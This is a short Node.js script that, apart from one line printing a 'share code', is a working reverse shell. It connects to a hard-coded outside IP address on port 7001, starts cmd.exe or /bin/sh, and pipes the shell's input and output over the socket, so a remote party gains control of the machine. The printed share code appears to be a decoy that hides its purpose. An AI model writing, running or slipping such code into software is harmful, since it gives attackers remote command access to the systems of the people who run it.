const net = require('net');
const { spawn } = require('child_process');

const client = new net.Socket();
client.connect(7001, '5.188.86.114', () => {
  const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
console.log('share code: 4821-77');
